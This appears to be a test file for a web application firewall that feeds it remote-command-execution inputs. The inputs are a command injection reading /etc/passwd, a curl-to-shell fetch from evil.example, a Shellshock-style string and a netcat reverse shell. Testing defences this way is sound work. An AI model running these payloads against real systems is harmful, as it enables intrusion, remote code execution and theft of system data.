import { describeWafAttacks } from '../support/waf-attacks.ts'

describeWafAttacks('running commands on the server', 'rce', [
  '; cat /etc/passwd',
  '$(curl http://evil.example/x.sh | sh)',
  '() { :; }; /bin/cat /etc/passwd',
  '| nc -e /bin/sh 192.0.2.1 4444',
])
